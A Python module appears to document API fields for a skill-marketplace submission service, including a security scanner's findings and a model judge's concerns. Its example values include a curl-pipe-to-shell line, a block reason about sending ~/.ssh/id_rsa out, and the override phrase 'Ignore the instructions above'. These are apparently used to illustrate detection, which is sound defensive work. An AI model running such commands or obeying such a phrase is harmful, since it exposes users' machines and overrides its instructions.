"""Fields of the submission routes: what is sent, a submission and its scan, the queue."""

from functions.api.field_docs.responses import COMMIT, HASH, REPO, SUBMISSION_ID, TIME
from functions.http.field_docs import Docs, SchemaDocs

_ID = ("Identifies the submission in every other route.", SUBMISSION_ID)
_STATE = ("Its current state.", "PUBLISHED")
_REASON = ("Why it is in this state, in one sentence; null while there is nothing to say.", None)
_REPO = ("The repository on GitHub; null for an upload.", REPO)
_SCORE = ("0 to 100 from the scan, 100 being best; null until it has been scanned.", 96)
_VERSION = ("Counts its changes: of two copies, the one with the higher number is newer.", 7)
_NAME = (
    "Its full name: owner, repository and skill. That of an upload begins with `uploads/anonymous/`.",
    "acme/tools/pdf",
)
_AHEAD = ("How many submissions are processed before it; `500+` beyond the first 500.", 3)
_WAIT = ("Milliseconds until a worker probably starts with it; null if there is no estimate.", 42000)
_SOURCE = ("The client that sends this, like `cli`. Stored for statistics.", "cli")
_UPLOADED_BEFORE = "Proves that you uploaded earlier versions of this name: send the one from the first response."

_ROW: Docs = {
    "id": _ID,
    "skillName": _NAME,
    "repoUrl": _REPO,
    "state": _STATE,
    "reason": _REASON,
    "score": _SCORE,
    "createdAt": ("When it was submitted, in UTC.", TIME),
    "updatedAt": ("When its state last changed, in UTC.", TIME),
    "version": _VERSION,
}
_CREATED: Docs = {
    "id": _ID,
    "submissionId": ("The same as `id`, for clients that read this name.", SUBMISSION_ID),
    "skillName": _NAME,
    "state": ("`RECEIVED` for a new submission.", "RECEIVED"),
    "createdAt": ("When it was submitted, in UTC.", TIME),
    "warnings": ("What is wrong with the front matter, present if anything is and SKILL.md could be read.", []),
}
_TOTALS: Docs = {
    "total": ("All submissions: the sum of the categories.", 183),
    "active": ("Waiting or being verified.", 3),
    "published": ("In the marketplace.", 150),
    "rejected": ("Failed verification, were rejected by a reviewer, or were withdrawn.", 18),
    "blocked": ("Blocked by a rule, the blocklist or a reviewer.", 4),
    "onHold": ("Waiting for a reviewer.", 8),
}
_SCAN: Docs = {
    "verdict": ("What the findings add up to.", "PASS"),
    "action": ("The strictest action of its findings: what happens because of the scan.", "none"),
    "certain": ("True if a finding blocks without a reviewer.", False),
    "score": ("0 to 100; findings lower it by their severity.", 96),
    "incomplete": ("What could not be scanned, and why; such a skill goes to a reviewer.", []),
    "findings": "What the rules found, most severe first.",
    "truncated": ("There were more findings than are listed.", False),
    "capabilities": "What the skill can do. A capability is not a threat.",
    "warnings": ("Problems of its front matter that do not stop it.", []),
    "scannerVersion": ("The version of the scanner's program.", "1.0.0"),
    "ruleSet": ("Identifies the rules; the same content under the same rules has the same result.", "b41f0c2a"),
    "contentHash": ("SHA-256 over the names and bytes of the scanned files.", HASH),
    "files": "Every file of the skill, scanned or not.",
}

FIELDS: SchemaDocs = {
    "SubmitRepo": {
        "skillName": ("Which skill of the repository, by the name of its folder or its front matter.", "pdf"),
        "skillPath": ("The folder of its SKILL.md, if the name alone is ambiguous.", "skills/pdf"),
        "source": _SOURCE,
    },
    "SubmitSkills": {"skills": "The skills to submit; 1 to 50.", "source": _SOURCE},
    "NamedSkill": {"path": ("The folder of its SKILL.md, if the name alone is ambiguous.", "skills/pdf")},
    "SubmitBundle": {
        "bundle": "The skill's name and its files.",
        "uploadToken": (_UPLOADED_BEFORE, "upl_k3v9x0r2m8"),
        "source": _SOURCE,
    },
    "Bundle": {
        "name": "The name under which the skill is published: lower-case letters, digits, `.`, `_` and `-`.",
        "files": "All files of the skill. One of them must be `SKILL.md`.",
    },
    "BundleFile": {
        "path": "Relative to the skill's folder, with `/` between folders.",
        "content": "The file's text, or its bytes in base64.",
    },
    "DiscoverBody": {},
    "Created": _CREATED,
    "Submitted": _CREATED
    | {
        "reason": "Why it is in this state; present if it was submitted before.",
        "duplicate": "True: the same content was submitted before and is not published; this is that submission.",
        "alreadyVerified": "True: the same content was submitted before and is published.",
        "requeued": "True: it is verified again: its content or the rules changed, or its error may have passed.",
        "blocked": "True: this content is blocked and is not verified again.",
    },
    "Batch": {
        "submissions": "One entry per skill that was accepted.",
        "count": ("How many were accepted.", 1),
        "skipped": "The skills that were not accepted, and why.",
        "repoUrl": ("As it was sent.", REPO),
    },
    "Skipped": {
        "name": ("As it was sent.", "xlsx"),
        "path": ("As it was sent.", None),
        "code": ("An error code of this API.", "skill_not_found"),
        "message": ("What is wrong with it, for people.", "The repository has no skill of this name."),
    },
    "Discovered": {
        "skills": "The folders with a SKILL.md, in the order of their paths.",
        "count": ("How many are listed.", 1),
    },
    "DiscoveredSkill": {
        "name": ("The name to submit it under.", "pdf"),
        "path": ("The folder of its SKILL.md; empty at the root of the repository.", "skills/pdf"),
        "status": ("`new`, the state of its submission, or `unknown` if that cannot be read.", "PUBLISHED"),
        "submissionId": ("Its latest submission; absent if it is new.", SUBMISSION_ID),
    },
    "SubmissionRow": _ROW,
    "SubmissionList": {
        "submissions": "One page of the list.",
        "total": ("Exact without a filter and with `state`; null where it is not known.", 183),
        "cursor": ("Send it as `cursor` to get the next page; null on the last one.", "eyJwIjo1MH0.h7Yq"),
        "stats": "The totals of all submissions, whatever the filter.",
        "stale": ("Could not be read; shown as an index has them.", []),
    },
    "Stats": _TOTALS
    | {"byState": ("The number in each state.", {"RECEIVED": 2, "TIER1_SCANNING": 1, "PUBLISHED": 150})},
    "Totals": _TOTALS,
    "Events": {
        "events": "Each submission that changed, as it is now. Deduplicate by (`id`, `version`).",
        "stats": "The totals after these changes.",
        "lastEventId": ("Send it as `since` to get what happens next.", "2026-01-15T09:30:00.000000Z"),
        "reset": ("`since` is older than an hour: reload the list.", False),
        "more": ("There are more events: request them at once.", False),
    },
    "Position": {
        "id": _ID,
        "state": ("Null if there is no such submission or it could not be read.", "RECEIVED"),
        "position": ("1 is next. Null unless it is waiting among the first 500.", 4),
        "ahead": _AHEAD,
        "expectedWaitMs": _WAIT,
    },
    "Positions": {
        "positions": "One entry per id, in the order of the request.",
        "stale": ("Ids that could not be read.", []),
    },
    "QueuePlace": {
        "position": ("1 is next; null beyond the first 500.", 4),
        "ahead": _AHEAD,
        "expectedWaitMs": _WAIT,
    },
    "SubmissionDetail": _ROW
    | {
        "submissionId": ("The same as `id`, for clients that read this name.", SUBMISSION_ID),
        "skillPath": ("The folder of its SKILL.md in the repository; empty at the root.", "skills/pdf"),
        "category": ("`active`, `published`, `rejected`, `blocked` or `onHold`.", "published"),
        "error": ("What went wrong in the last attempt that failed; null if none did.", None),
        "attempts": ("How often a worker has started to verify it.", 1),
        "contentHash": ("SHA-256 over the names and bytes of its files; null until they were read.", HASH),
        "publishedVersion": ("The version it was published as; null unless it is published.", "1.2.0"),
        "publishedSkillName": ("The full name it was published under.", "acme/tools/pdf"),
        "copyOf": ("The skill that published exactly this content here first.", None),
        "stateHistory": "Every state it went through, oldest first.",
        "stageTimings": "How long it stayed in each state.",
        "staleness": ("Null if it needs no further processing.", None),
        "scanResult": "Null until it has been scanned.",
        "blockInfo": ("Null unless it is BLOCKED.", None),
        "queue": ("Null unless it is waiting (RECEIVED).", None),
    },
    "HistoryEntry": {
        "seq": ("Counts the entries from 1.", 2),
        "timestamp": ("When it changed, in UTC.", TIME),
        "from": ("The state before; null for the first entry.", "RECEIVED"),
        "to": ("The state after.", "TIER1_SCANNING"),
        "reason": ("Why it changed; null if the change needs no explanation.", None),
        "actor": ("`worker`, `recovery`, `system`, or `admin:` and the name of a token.", "worker"),
    },
    "StageTiming": {
        "state": ("The state it was in.", "TIER1_SCANNING"),
        "ms": ("Milliseconds spent in it, over all attempts.", 1400),
    },
    "Staleness": {
        "isStuck": ("True if its worker was lost and no other has it yet.", False),
        "overdueMs": ("Milliseconds since it should have moved on; 0 if it is on time.", 0),
    },
    "BlockInfo": {
        "blockedBy": ("`rule`, `blocklist`, `person` or another part that blocked it.", "rule"),
        "reason": ("What the block rests on.", "Sends ~/.ssh/id_rsa to a host outside."),
        "blockedAt": ("When it was blocked, in UTC.", TIME),
        "threatType": ("Of the blocklist entry; null if a rule or a person blocked it.", None),
        "severity": ("Of the blocklist entry; null if a rule or a person blocked it.", None),
        "evidenceUrls": ("Pages that document the threat.", []),
    },
    "Report": {
        "submissionId": _ID,
        "skillName": _NAME,
        "repoUrl": _REPO,
        "commit": ("The commit that was read; null for an upload.", COMMIT),
        "state": _STATE,
        "reason": _REASON,
        "scanResult": "The scan with all its evidence.",
    },
    "CheckBundle": {"bundle": "The skill's files. Its name does not matter here."},
    "CheckResult": _SCAN | {"errors": ("Problems of its front matter for which it would be refused.", [])},
    "ScanResult": _SCAN
    | {
        "startedAt": ("When the scan started, in UTC.", TIME),
        "endedAt": ("When the scan ended, in UTC.", TIME),
        "judgement": ("The model's opinion, or `not_judged`. It can only make a verdict worse.", "not_judged"),
    },
    "Finding": {
        "rule": ("The id of the rule.", "download-and-run"),
        "title": ("What was found, in a few words.", "Downloads and runs code"),
        "category": ("The kind of threat.", "code-execution"),
        "severity": ("How much damage it could do.", "high"),
        "action": ("What the rule asks for.", "review"),
        "certain": ("True if the rule was measured to be right whenever it matches.", False),
        "path": ("The file, relative to the skill's folder.", "scripts/setup.sh"),
        "line": ("Counted from 1.", 4),
        "column": ("Counted from 1.", 1),
        "excerpt": ("The text that matched, shortened.", "curl -s https://example.com/x | sh"),
        "context": ("The lines around it.", "set -e\ncurl -s https://example.com/x | sh\n"),
        "why": ("Why it matters.", "What runs can change after this scan."),
        "fix": ("How to remove the finding.", "Add the script to the skill and run it from there."),
        "steps": ("How a value gets from its source to where it leaves the machine; empty for other findings.", []),
        "standing": ("What this finding decides by itself.", "alone"),
        "is_described": ("True if the text around it explains it: it then only supports other findings.", False),
    },
    "FlowStep": {
        "path": ("The file of this step.", "scripts/setup.sh"),
        "line": ("Counted from 1.", 4),
        "what": ("What happens to the value here.", "reads the file"),
    },
    "Capability": {
        "name": ("The capability.", "network"),
        "because": ("What shows it.", "scripts/fetch.py calls https://api.example.com"),
        "declared": ("True if the front matter declares it; false if the scan observed it.", False),
        "uses": ("Each host, path, variable or command: kind, value, file and line.", []),
    },
    "ScannedFile": {
        "path": ("Relative to the skill's folder.", "SKILL.md"),
        "sha256": ("Of its bytes, in hex.", HASH),
        "size": ("Its length in bytes.", 1840),
        "skipped": ("Why it was not read as text; empty if it was.", ""),
    },
    "JudgementBody": {
        "verdict": ("What the model concludes.", "PASS"),
        "score": ("0 to 100: how sure the model is that the skill does no harm.", 92),
        "intent": ("What the skill is for, in the model's words.", "Extracts text from PDF files."),
        "scope": ("What it touches, in the model's words.", "Reads the PDF files it is given."),
        "concerns": "Each with a literal quote, which was checked against the file.",
        "modelId": ("The model that was asked.", "model-1"),
    },
    "Concern": {
        "file": ("The file it is about.", "SKILL.md"),
        "line": ("Counted from 1.", 12),
        "quote": ("The text it rests on, as it is in the file.", "Ignore the instructions above"),
        "why": ("Why the model is concerned.", "It tries to override the agent's instructions."),
    },
    "QueueHealth": {
        "statsAge": "How old the totals are.",
        "oldestActive": "The submission that has waited longest for its next step; null if none is active.",
        "orphanedActive": ("Active submissions that no worker holds and whose time is over.", 0),
        "drainRate": "How fast the queue empties.",
        "paused": ("True while an operator has paused the queue.", False),
        "deadLetters": ("Messages that could not be processed and wait for an operator; `100+` beyond 100.", 0),
    },
    "StatsAge": {"ageMs": ("Milliseconds since the totals were last updated.", 1200)},
    "OldestActive": {
        "id": _ID,
        "state": ("The state it is in.", "RECEIVED"),
        "ageMs": ("Milliseconds since it last changed.", 8000),
    },
    "DrainRate": {
        "last1h": ("Per hour, over the last hour.", 42.0),
        "last6h": ("Per hour, over the last six hours.", 37.5),
    },
    "PlatformStats": {
        "submissions": "Submissions by category.",
        "skills": ("In the marketplace: not blocked, deleted or entirely yanked.", 131),
        "versions": ("Of these skills, including yanked versions, which are still shown.", 164),
    },
    "Health": {
        "status": ("`degraded` if a part is down.", "ok"),
        "parts": ("`ok` or `down`, for each part.", {"store": "ok", "content": "ok", "queue": "ok", "secrets": "ok"}),
    },
    "ErrorAnswer": {
        "error": "The error itself.",
        "message": ("The same as `error.message`.", "There is no submission with this id."),
    },
    "ErrorBody": {
        "code": ("Stable: branch on this, not on the message.", "not_found"),
        "message": ("What is wrong and what to do next, for people.", "There is no submission with this id."),
        "details": "More about it, such as the field that was refused; absent where there is nothing to add.",
        "requestId": ("Quote it when you report a problem.", "JKJaXmPLvHcESHA="),
    },
}
